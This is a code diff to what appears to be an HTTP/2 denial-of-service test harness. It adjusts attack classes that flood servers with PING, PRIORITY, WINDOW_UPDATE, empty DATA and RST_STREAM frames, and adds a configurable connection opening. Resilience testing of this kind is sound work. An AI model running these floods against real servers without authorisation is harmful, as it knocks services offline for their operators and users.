@@ -1,5 +1,6 @@
 import type { Attack } from "../attack.js";
 import type { AttackClass } from "../attack-class.js";
+import { OPENING } from "../raw/connection.js";
 import {
   data,
   END_STREAM,
@@ -24,8 +25,8 @@ const UNKNOWN_TYPE = 0xf0;
 const BLOCK = requestBlock(CHECK_PATH);
 
 /** The same bytes over and over, on connections that each carry an innocent call as stream 1. */
-function flooding(bytes: Buffer, connections = CONNECTIONS) {
-  return (attack: Attack) => attack.flood({ connections, hasInnocent: true }, () => bytes);
+function flooding(bytes: Buffer, opening: Buffer = OPENING) {
+  return (attack: Attack) => attack.flood({ connections: CONNECTIONS, hasInnocent: true, opening }, () => bytes);
 }
 
 /** The same over an open call: its headers first, as stream 3. */
@@ -105,7 +106,7 @@ export const CONTROL_FRAMES: readonly AttackClass[] = [
   { name: "ping", title: "PING", run: flooding(repeated(FRAMES_A_WRITE, (index) => frame(FrameType.Ping, 0, 0, Buffer.concat([uint32(index), uint32(0)])))) },
   { name: "ping-unread", title: "PING whose answers are not read", run: unreadPings },
   { name: "priority", title: "PRIORITY of streams that are not there", run: flooding(repeated(FRAMES_A_WRITE, (index) => frame(FrameType.Priority, 0, 3 + 2 * index, Buffer.concat([uint32(1), Buffer.of(7)])))) },
-  { name: "window-update", title: "WINDOW_UPDATE of 1 for the connection", run: flooding(repeated(FRAMES_A_WRITE, () => windowUpdate(0, 1))) },
+  { name: "window-update", title: "WINDOW_UPDATE of 1 for the connection", run: flooding(repeated(FRAMES_A_WRITE, () => windowUpdate(0, 1)), settings()) },
   { name: "window-update-stream", title: "WINDOW_UPDATE of 1 for an open call", run: floodingCall(repeated(FRAMES_A_WRITE, () => windowUpdate(3, 1))) },
   { name: "empty-data", title: "Empty DATA", run: floodingCall(EMPTY_DATA) },
   { name: "resets-of-closed", title: "RST_STREAM of a call that is over", run: resetsOfClosed },
